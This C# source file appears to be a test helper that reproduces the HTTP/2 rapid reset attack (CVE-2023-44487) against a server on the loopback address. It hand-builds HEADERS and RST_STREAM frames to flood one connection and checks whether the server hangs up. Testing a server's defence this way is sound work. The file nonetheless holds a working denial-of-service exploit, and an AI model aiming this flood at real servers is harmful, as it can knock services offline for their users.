using System.Buffers.Binary;
using System.Net;
using System.Net.Sockets;
using System.Text;

namespace Hooklatch.Tests.Transport;

/// <summary>
/// The rapid reset attack (CVE-2023-44487), frame by frame (RFC 9113 §4.1): each stream is opened and reset in one breath, so that the
/// limit of concurrent streams never holds the sender back.
/// </summary>
internal static class Http2Flood
{
    private const byte Headers = 0x1;
    private const byte ResetStream = 0x3;
    private const byte Settings = 0x4;
    private const byte EndHeaders = 0x4;
    private const uint Cancel = 0x8;

    /// <summary>How long the server may take to hang up after the last frame.</summary>
    private static readonly TimeSpan Patience = TimeSpan.FromSeconds(10);

    /// <summary>Opens and resets so many streams on one connection; answers whether the server hung up on it.</summary>
    public static async Task<bool> ResetAsync(Uri server, string path, int streams)
    {
        using var client = new TcpClient();
        await client.ConnectAsync(IPAddress.Loopback, server.Port);
        var stream = client.GetStream();
        var hungUp = ReadToEndAsync(stream);
        await FloodAsync(stream, path, streams);
        return await Task.WhenAny(hungUp, Task.Delay(Patience)) == hungUp;
    }

    private static async Task FloodAsync(NetworkStream stream, string path, int streams)
    {
        var headers = HeaderBlock(path);
        try
        {
            await stream.WriteAsync("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"u8.ToArray());
            await stream.WriteAsync(Frame(Settings, 0, 0, []));
            for (var id = 1; id < 2 * streams; id += 2)
            {
                await stream.WriteAsync(
                    (byte[])[.. Frame(Headers, EndHeaders, id, headers), .. Frame(ResetStream, 0, id, BigEndian(Cancel))]
                );
            }
        }
        catch (IOException)
        {
            // The server hung up before the last of them.
        }
    }

    /// <summary>Reads what comes, since a flood that takes no answers would stop by itself, until the server closes or resets.</summary>
    private static async Task ReadToEndAsync(NetworkStream stream)
    {
        try
        {
            await stream.CopyToAsync(Stream.Null);
        }
        catch (Exception exception) when (exception is IOException or ObjectDisposedException)
        {
            // A reset is a hang-up, too.
        }
    }

    /// <summary>A POST to the path, in HPACK's static table and plain literals (RFC 7541 §6).</summary>
    private static byte[] HeaderBlock(string path) =>
        [0x83, 0x86, 0x04, (byte)path.Length, .. Encoding.ASCII.GetBytes(path), 0x01, 9, .. "localhost"u8];

    private static byte[] Frame(byte type, byte flags, int streamId, byte[] payload) =>
        [
            (byte)(payload.Length >> 16),
            (byte)(payload.Length >> 8),
            (byte)payload.Length,
            type,
            flags,
            .. BigEndian((uint)streamId),
            .. payload,
        ];

    private static byte[] BigEndian(uint value)
    {
        var bytes = new byte[4];
        BinaryPrimitives.WriteUInt32BigEndian(bytes, value);
        return bytes;
    }
}
